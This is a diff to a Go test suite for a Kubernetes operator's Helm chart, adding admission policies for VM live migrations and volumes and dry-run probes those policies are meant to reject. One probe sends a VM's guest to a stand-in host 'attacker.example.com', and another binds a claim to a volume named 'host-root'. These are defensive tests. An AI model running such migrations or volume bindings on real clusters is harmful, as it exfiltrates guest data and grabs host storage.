@@ -58,6 +58,10 @@ const (
 	vmsPolicy    = "nodewright-operator-virtual-machines"
 	nodesPolicy  = "nodewright-operator-nodes"
 	taintsPolicy = "nodewright-operator-node-taints"
+	// vmimsPolicy holds its live migrations (operator-vm-limits.yaml), volumesPolicy its claims
+	// and snapshots (operator-volume-limits.yaml).
+	vmimsPolicy   = "nodewright-operator-vm-migrations"
+	volumesPolicy = "nodewright-operator-volumes"
 	// The chart's webhook configurations (templates/webhooks.yaml).
 	mutatingConfig   = "nodewright-mutating-webhook"
 	validatingConfig = "nodewright-validating-webhook"
@@ -110,7 +114,8 @@ func newSite(t *testing.T) *site {
 		switch {
 		case o.Template == "templates/serviceaccount.yaml", o.Template == "templates/rbac.yaml",
 			o.Template == "templates/operator-limits.yaml", o.Template == "templates/operator-vm-limits.yaml",
-			o.Template == "templates/operator-node-limits.yaml", o.Template == "templates/webhooks.yaml",
+			o.Template == "templates/operator-node-limits.yaml", o.Template == "templates/operator-volume-limits.yaml",
+			o.Template == "templates/webhooks.yaml",
 			o.Template == "templates/operator-state.yaml" && o.GetKind() == "Secret":
 		default:
 			continue
@@ -131,6 +136,8 @@ func newSite(t *testing.T) *site {
 		"ValidatingAdmissionPolicy/" + vmsPolicy, "ValidatingAdmissionPolicyBinding/" + vmsPolicy,
 		"ValidatingAdmissionPolicy/" + nodesPolicy, "ValidatingAdmissionPolicyBinding/" + nodesPolicy,
 		"ValidatingAdmissionPolicy/" + taintsPolicy, "ValidatingAdmissionPolicyBinding/" + taintsPolicy,
+		"ValidatingAdmissionPolicy/" + vmimsPolicy, "ValidatingAdmissionPolicyBinding/" + vmimsPolicy,
+		"ValidatingAdmissionPolicy/" + volumesPolicy, "ValidatingAdmissionPolicyBinding/" + volumesPolicy,
 		"MutatingWebhookConfiguration/" + mutatingConfig, "ValidatingWebhookConfiguration/" + validatingConfig, "Secret/" + certSecret} {
 		if !installed[want] {
 			t.Fatalf("the chart rendered no %s (rendered: %v)", want, installed)
@@ -214,7 +221,7 @@ func newSite(t *testing.T) *site {
 	// that a later test does not meet it. Runs before the deletions registered above (cleanups
 	// run last first), while the operator's RBAC is still there.
 	t.Cleanup(func() {
-		for _, name := range []string{jobsPolicy, webhooksPolicy, vmsPolicy, nodesPolicy, taintsPolicy} {
+		for _, name := range []string{jobsPolicy, webhooksPolicy, vmsPolicy, nodesPolicy, taintsPolicy, vmimsPolicy, volumesPolicy} {
 			for _, kind := range []string{"ValidatingAdmissionPolicyBinding", "ValidatingAdmissionPolicy"} {
 				u := &unstructured.Unstructured{}
 				u.SetAPIVersion("admissionregistration.k8s.io/v1")
@@ -288,6 +295,16 @@ func (s *site) policyProbes() []probe {
 		{vmsPolicy, "give VM web a hook sidecar", func() error {
 			return s.operator.Patch(ctx, s.vm.DeepCopy(), client.RawPatch(types.MergePatchType,
 				[]byte(`{"metadata":{"annotations":{"hooks.kubevirt.io/hookSidecars":"[]"}}}`)), client.DryRunAll)
+		}},
+		{vmimsPolicy, "send VM web's guest elsewhere", func() error {
+			return s.operator.Create(ctx, s.liveMigration("probe", func(m *virtv1.VirtualMachineInstanceMigration) {
+				m.Spec.SendTo = &virtv1.VirtualMachineInstanceMigrationSource{MigrationID: "probe", ConnectURL: "attacker.example.com:443"}
+			}), client.DryRunAll)
+		}},
+		{volumesPolicy, "bind a claim to a volume that exists", func() error {
+			pvc := s.targetClaim("probe")
+			pvc.Spec.VolumeName = "host-root"
+			return s.operator.Create(ctx, pvc, client.DryRunAll)
 		}},
 		{nodesPolicy, "label Node " + s.node.Name, func() error {
 			return s.operator.Patch(ctx, s.node.DeepCopy(), client.RawPatch(types.MergePatchType,
